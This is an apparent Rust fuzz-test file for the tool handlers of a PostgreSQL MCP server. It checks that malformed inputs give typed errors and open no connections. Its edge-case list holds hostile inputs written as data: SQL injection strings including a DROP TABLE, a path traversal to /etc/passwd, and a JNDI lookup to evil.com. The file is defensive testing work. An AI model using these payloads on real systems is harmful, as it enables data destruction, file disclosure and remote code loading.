//! Black-box fuzzing of the tool handlers.
//!
//! Random, malformed and hostile inputs must come back as typed errors,
//! never panics, and must never open a database connection.

use pg_mcp_server::config::PoolOptions;
use pg_mcp_server::db::ConnectionManager;
use pg_mcp_server::error::DbError;
use pg_mcp_server::models::{ConnectionDescriptor, ConnectionId, QueryParam};
use pg_mcp_server::tools::catalog::{CatalogToolHandler, SampleRowsInput, TableInput};
use pg_mcp_server::tools::connection::{ConnectInput, ConnectionToolHandler, DisconnectInput};
use pg_mcp_server::tools::explain::{ExplainInput, ExplainToolHandler};
use pg_mcp_server::tools::query::{QueryInput, QueryToolHandler};
use rand::Rng;
use rand::distributions::Alphanumeric;
use std::sync::Arc;

fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "../../etc/passwd".to_string(),
        "a".repeat(10_000),
        random_string(36),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "00000000-0000-0000-0000-000000000000".to_string(),
        "6ba7b811-9dad-11d1-80b4-00c04fd430c8".to_string(),
        "6BA7B811-9DAD-11D1-80B4-00C04FD430C8".to_string(),
        "{6ba7b811-9dad-11d1-80b4-00c04fd430c8}".to_string(),
    ]
}

fn setup() -> Arc<ConnectionManager> {
    Arc::new(ConnectionManager::new(PoolOptions::default()))
}

#[tokio::test]
async fn fuzz_query_tool_conn_id() {
    let manager = setup();
    let handler = QueryToolHandler::new(manager.clone());

    for conn_id in edge_case_strings() {
        let result = handler
            .query(QueryInput {
                conn_id: conn_id.clone(),
                query: "SELECT 1".to_string(),
                params: vec![],
            })
            .await;
        match result {
            Err(DbError::UnknownIdentifier { .. }) => {}
            other => panic!("conn_id {conn_id:?} gave {other:?}"),
        }
    }
    assert_eq!(manager.registry().pool_count().await, 0);
}

#[tokio::test]
async fn fuzz_explain_tool_params() {
    let handler = ExplainToolHandler::new(setup());
    let params = vec![
        QueryParam::Null,
        QueryParam::Bool(true),
        QueryParam::Int(i64::MIN),
        QueryParam::Float(f64::NAN),
        QueryParam::String(random_string(500)),
        QueryParam::Json(serde_json::json!({"nested": [1, 2, {"x": null}]})),
    ];

    for query in edge_case_strings() {
        let result = handler
            .explain(ExplainInput {
                conn_id: ConnectionId::for_identity_key("nobody@nowhere/db").to_string(),
                query,
                params: params.clone(),
            })
            .await;
        assert!(matches!(result, Err(DbError::UnknownIdentifier { .. })));
    }
}

#[tokio::test]
async fn fuzz_connect_tool_connection_string() {
    let manager = setup();
    let handler = ConnectionToolHandler::new(manager.clone());

    for raw in edge_case_strings() {
        let result = handler
            .connect(ConnectInput {
                connection_string: raw.clone(),
            })
            .await;
        match result {
            Ok(output) => {
                // Whatever was accepted must resolve to the same ID again
                let expected = ConnectionDescriptor::parse(&raw).unwrap().identifier();
                assert_eq!(output.conn_id, expected.to_string());
            }
            Err(DbError::InvalidDescriptor { .. }) => {}
            Err(other) => panic!("connection string {raw:?} gave {other:?}"),
        }
    }
    assert_eq!(manager.registry().pool_count().await, 0);
}

#[tokio::test]
async fn fuzz_disconnect_tool_never_errors() {
    let handler = ConnectionToolHandler::new(setup());

    for conn_id in edge_case_strings() {
        let output = handler.disconnect(DisconnectInput { conn_id }).await;
        assert!(!output.success);
        assert!(output.error.is_some());
    }
}

#[tokio::test]
async fn fuzz_catalog_tools_identifiers() {
    let manager = setup();
    let handler = CatalogToolHandler::new(manager.clone());
    let stranger = ConnectionId::for_identity_key("nobody@nowhere/db").to_string();

    for name in edge_case_strings() {
        let describe = handler
            .describe_columns(TableInput {
                conn_id: stranger.clone(),
                schema: name.clone(),
                table: name.clone(),
            })
            .await;
        assert!(matches!(describe, Err(DbError::UnknownIdentifier { .. })));

        let sample = handler
            .sample_rows(SampleRowsInput {
                conn_id: stranger.clone(),
                schema: "public".to_string(),
                table: name,
                limit: Some(rand::thread_rng().gen_range(0..u32::MAX)),
            })
            .await;
        assert!(matches!(sample, Err(DbError::UnknownIdentifier { .. })));
    }
}

#[test]
fn fuzz_descriptor_parse_random_authorities() {
    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let user = random_string(rng.gen_range(1..12));
        let host = random_string(rng.gen_range(1..20)).to_lowercase();
        let port: u16 = rng.gen_range(1..=u16::MAX);
        let db = random_string(rng.gen_range(1..16));
        let bare = format!("{user}:pw@{host}:{port}/{db}");

        let descriptor = ConnectionDescriptor::parse(&bare).unwrap();
        assert_eq!(descriptor.identity_key(), bare);
        assert_eq!(
            descriptor.identifier(),
            ConnectionDescriptor::parse(&format!("postgres://{bare}?sslmode=prefer"))
                .unwrap()
                .identifier()
        );
    }
}
